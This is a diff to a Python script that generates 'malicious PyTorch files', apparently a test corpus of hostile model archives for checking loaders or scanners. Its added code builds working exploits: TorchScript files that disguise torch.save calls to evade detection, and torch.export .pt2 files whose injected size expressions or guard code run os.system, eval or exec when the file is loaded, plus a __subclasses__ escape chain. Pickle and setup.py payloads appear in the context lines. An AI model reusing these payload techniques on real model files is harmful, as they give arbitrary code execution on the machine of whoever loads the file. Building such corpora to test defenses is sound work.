@@ -1,8 +1,10 @@
 """Malicious PyTorch files: `python hostile_torch.py DIR`. Made and proved with torch 2.15.0."""
 import collections
 import io
+import json
 import os
 import pickle
+import re
 import struct
 import sys
 import tarfile
@@ -258,6 +260,11 @@ for name, module, loader in (("script-save", Saves, "jit-run"), ("script-from-fi
         corpus.add(name + ".pt", scripted(module()), loader)
     except Exception as e:
         print("left out", name, type(e).__name__, str(e)[:200])
+saves = members(scripted(Saves()))
+for name, call in (("alias", "t = torch\n    t.save("), ("getattr", 'getattr(torch, "save")('), ("brackets", "(torch).save("), ("import", "torch.save(")):
+    start = b"import __torch__\n" if name == "import" else b""
+    corpus.add(f"script-{name}.pt", packed([(n, start + c.replace(b"torch.save(", call.encode()) if n.endswith(".py") else c) for n, c in saves]),
+               None if start else "jit-run")
 quiet = members(scripted(Quiet()))
 top = quiet[0][0].split("/")[0]
 corpus.add("script-extra-pickle.pt", packed(quiet + [(top + "/extra/weights.pkl", bad_pickle)]), None)
@@ -266,6 +273,34 @@ corpus.add("script-constants.pt", packed([(n, bad_pickle if n.endswith("/constan
 corpus.add("script-debug.pt", packed([(n, bad_pickle if n.endswith(".debug_pkl") else c) for n, c in quiet]), None)
 corpus.add("script-undefined-type.pt", packed([(n, c.replace(b"__torch__\n", b"__tor_h__\n") if n.endswith("/data.pkl") else c) for n, c in quiet]), None)
 corpus.add("script-python.pt", packed(quiet + [(top + "/code/setup.py", f"import os\nos.system({COMMAND!r})\n".encode())]), None)
+
+
+# An exported program: sizes are evaluated when it is loaded, conditions when its module is taken.
+class Sized(nn.Module):
+    def forward(self, x):
+        return x + x.shape[0]
+
+
+exported = io.BytesIO()
+torch.export.save(torch.export.export(Sized(), (torch.randn(4, 4),), dynamic_shapes={"x": {0: torch.export.Dim("b", min=2, max=64)}}), exported)
+exported = members(exported.getvalue())
+program = next(n for n, c in exported if n.endswith("models/model.json"))
+model = dict(exported)[program].decode()
+
+
+def evaluated(code):
+    return re.sub(r'"expr_str": "[^"]*"', lambda match: '"expr_str": ' + json.dumps(code), model, count=1)
+
+
+def exported_with(text):
+    return packed([(n, text.encode() if n == program else c) for n, c in exported])
+
+
+corpus.add("export-size.pt2", exported_with(evaluated(f"__import__('os').system({COMMAND!r})")), "export")
+corpus.add("export-size-eval.pt2", exported_with(evaluated(f'eval("__import__(\'os\').system({COMMAND!r})")')), "export")
+corpus.add("export-size-exec.pt2", exported_with(evaluated(f'exec("import os; os.system({COMMAND!r})")')), "export")
+corpus.add("export-size-attributes.pt2", exported_with(evaluated("().__class__.__base__.__subclasses__()")), None)
+corpus.add("export-condition.pt2", exported_with(json.dumps({**json.loads(model), "guards_code": [f"__import__('os').system({COMMAND!r}) == 0"]})), "export-module")
 
 
 def torchserve(path):
